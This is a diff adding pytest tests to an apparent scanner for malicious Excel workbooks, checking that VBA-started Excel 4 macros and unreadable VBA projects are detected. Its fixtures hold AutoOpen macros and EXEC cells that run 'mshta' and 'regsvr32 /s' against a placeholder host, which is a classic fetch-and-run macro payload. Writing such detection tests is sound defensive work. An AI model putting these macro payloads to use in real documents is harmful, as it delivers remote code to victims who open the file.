@@ -321,3 +321,31 @@ def test_an_encrypted_workbook_is_read_by_a_candidate():
     rules = {one.rule for one in found if isinstance(one, Finding)}
     assert "xlm.runs-interpreter" in rules
     assert not {"ole.default-password", "xlm.encrypted-workbook"} & rules
+
+
+@pytest.mark.parametrize("format", FORMATS)
+def test_visual_basic_that_starts_macros_joins_the_chain(format):  # noqa: A002
+    started = 'Application.Run "Macro1!A5"\n  ExecuteExcel4Macro "EXEC(""mshta http://host.invalid/b"")"'
+    source = f"Sub AutoOpen()\n  {started}\nEnd Sub\n"
+    cells = {"A1": '=EXEC("no")', "A5": '=EXEC("regsvr32 /s http://host.invalid/a")', "A6": "=HALT()"}
+    data = workbook(format, xlm={"Macro1": cells}, macros={"Module1": source})
+    found = findings(data)
+    assert [one.where for one in found["started-by-vba"].evidence] == ["Module1:3", "Module1:4"]
+    assert {("url", "http://host.invalid/a", "literal"), ("url", "http://host.invalid/b", "literal")} <= indicators(
+        data
+    )
+
+
+def test_visual_basic_that_is_not_read_is_a_gap_and_the_macros_are_followed():
+    data = workbook(
+        "xlsm", xlm={"Macro1": {"A1": '=EXEC("mshta http://host.invalid/a")'}}, macros={"M": "Sub A()\nEnd Sub\n"}
+    )
+    broken = workbook(
+        "xlsm",
+        xlm={"Macro1": {"A1": '=EXEC("mshta http://host.invalid/a")'}},
+        macros={"M": "Sub A()\nEnd Sub\n"},
+        parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)},
+    )
+    assert "damaged-workbook" not in findings(data)
+    assert findings(broken)["damaged-workbook"].incomplete
+    assert "runs-interpreter" in findings(broken)
